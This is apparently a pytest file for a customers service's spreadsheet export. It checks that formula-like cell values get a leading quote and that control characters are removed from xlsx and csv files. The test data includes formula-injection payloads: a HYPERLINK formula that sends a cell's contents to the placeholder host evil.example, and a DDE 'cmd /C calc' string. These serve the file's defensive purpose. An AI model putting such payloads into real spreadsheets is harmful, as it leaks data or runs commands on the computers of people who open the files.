"""Spreadsheet files in and out of the customers service: exports that do not run, imports that stay small."""
import csv
import io

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from services.customers.domain.spreadsheet import CONTROL_CHARACTERS, safe_cell
from services.customers.spreadsheets import write_rows

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+86 138 0000 0000", "-2+3", "@SUM(A1)",
           "\tcmd", "\rcmd"]


@pytest.mark.parametrize("value", HOSTILE)
def test_exported_cells_that_a_spreadsheet_would_run_start_with_a_quote(value):
    assert safe_cell(value) == "'" + value


def test_plain_text_numbers_and_empty_cells_are_exported_as_they_are():
    assert [safe_cell(v) for v in ("王丽", "13800000000", 12, None, "a=b")] == ["王丽", "13800000000", 12, None, "a=b"]


def test_the_xlsx_export_quotes_formulas_and_drops_control_characters():
    content = write_rows("xlsx", ["姓名", "备注"], [["=1+1", "李\x00华\x07"], ["@cmd", "ok"]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [["姓名", "备注"], ["'=1+1", "李华"], ["'@cmd", "ok"]]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_csv_export_quotes_formulas_and_drops_control_characters():
    content = write_rows("csv", ["姓名"], [["=cmd|' /C calc'!A0"], ["张\x1b三"]])
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [["姓名"], ["'=cmd|' /C calc'!A0"], ["张三"]]


def test_the_control_characters_removed_are_those_xlsx_cannot_hold():
    for code in range(0x100):
        assert bool(CONTROL_CHARACTERS.match(chr(code))) == bool(ILLEGAL_CHARACTERS_RE.match(chr(code)))
